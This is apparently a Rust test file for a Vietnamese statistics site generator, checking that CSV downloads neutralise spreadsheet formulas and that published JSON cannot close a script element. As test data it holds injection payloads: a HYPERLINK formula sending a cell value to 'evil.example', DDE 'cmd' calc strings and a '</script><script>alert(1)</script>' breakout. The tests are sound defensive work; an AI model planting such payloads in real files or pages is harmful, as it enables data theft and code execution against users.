//! Adversarial input (issue 20, injection, check = build, serve and import
//! under abuse): hostile names and URLs, control characters, oversized
//! sheets and slow or oversized requests. Every loop here is bounded.

mod common;

use std::path::Path;

/// A small valid dataset whose title and unit names the test chooses.
fn dataset(title: &str, names: &[&str]) -> String {
    let mut units = String::new();
    let mut scores = String::new();
    for (i, n) in names.iter().enumerate() {
        let n = serde_json::to_string(n).unwrap();
        units.push_str(&format!(
            "  - {{ key: \"{k}\", name: {n}, short: \"Đơn vị {k}\", slug: \"don-vi-{k}\" }}\n",
            k = i + 1
        ));
        scores.push_str(&format!("      \"{}\": {{ total: {} }}\n", i + 1, 70 - i));
    }
    let title = serde_json::to_string(title).unwrap();
    format!(
        "title: {title}\nsource:\n  - {{ name: \"Nguồn thử\" }}\nstatus: illustrative\n\
         scale: {{ max: 100, unit: \"điểm\", decimals: 2 }}\nunits:\n{units}results:\n\
         \x20 - year: 2022\n    scores:\n{scores}"
    )
}

/// Every file under `dir` whose name ends with `ext`, with its text.
fn files_ending(dir: &Path, ext: &str) -> Vec<(String, String)> {
    common::snapshot(dir)
        .into_iter()
        .filter(|(p, _)| p.to_string_lossy().ends_with(ext))
        .map(|(p, b)| {
            (
                p.display().to_string(),
                String::from_utf8(b).expect("UTF-8"),
            )
        })
        .collect()
}

const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
];

#[test]
fn csv_downloads_never_start_a_cell_with_a_formula() {
    let (site, _) =
        common::builds(|s| s.write("content/data/thu.yaml", dataset("Chỉ số thử", &FORMULAS)));
    let bytes = std::fs::read(site.path("output/chi-so/thu/thu.csv")).unwrap();
    let mut r = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(&bytes[3..]);
    let head: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    let total = head
        .iter()
        .position(|h| h.starts_with("Tổng điểm"))
        .unwrap();
    let mut names = Vec::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
        // Numbers stay numbers.
        rec[total].parse::<f64>().expect("a number");
        names.push(rec[2].to_string());
    }
    for f in FORMULAS {
        assert!(names.contains(&format!("'{f}")), "{f:?} not in {names:?}");
    }
}

#[test]
fn csv_downloads_keep_negative_numbers_as_numbers() {
    let text = dataset("Chỉ số thử", &["Xã Một", "Xã Hai"])
        .replace("scale: { max: 100,", "scale: { min: -10, max: 100,")
        .replace("total: 69", "total: -3.5");
    let (site, _) = common::builds(|s| s.write("content/data/thu.yaml", &text));
    let csv = site.read("output/chi-so/thu/thu.csv");
    assert!(csv.contains(",-3.50,"), "{csv}");
}

#[test]
fn published_json_cannot_close_a_script_element() {
    let hostile = "</script><script>alert(1)</script> & <!--";
    let (site, _) = common::builds(|s| {
        s.write(
            "content/data/thu.yaml",
            dataset(hostile, &["<b>Xã</b> & Một", "Xã Hai"]),
        );
        s.write(
            "content/articles/tin/hostile.md",
            format!(
                "---\ntitle: \"{}\"\ndate: 2024-03-01\ncategory: Kinh tế\n---\n\nBài có </script> & <b>\n",
                hostile.replace('"', "\\\"")
            ),
        );
    });
    let out = site.path("output");
    let jsons = files_ending(&out, ".json");
    assert!(jsons.len() > 2, "{jsons:?}");
    for (path, text) in &jsons {
        assert!(!text.contains(['<', '>', '&']), "{path}: {text}");
        serde_json::from_str::<serde_json::Value>(text).unwrap_or_else(|e| panic!("{path}: {e}"));
    }
    // The download round-trips unchanged.
    let v: serde_json::Value =
        serde_json::from_str(&site.read("output/chi-so/thu/thu.json")).unwrap();
    assert_eq!(v["title"], hostile);
    assert_eq!(v["units"][0]["name"], "<b>Xã</b> & Một");
    // The search index holds the title, escaped, and gives it back.
    let found = jsons
        .iter()
        .filter(|(p, _)| p.contains("/d/") || p.contains("\\d\\"))
        .any(|(_, t)| t.contains("\\u003c/script\\u003e"));
    assert!(found, "the hostile title is not in the search documents");
}
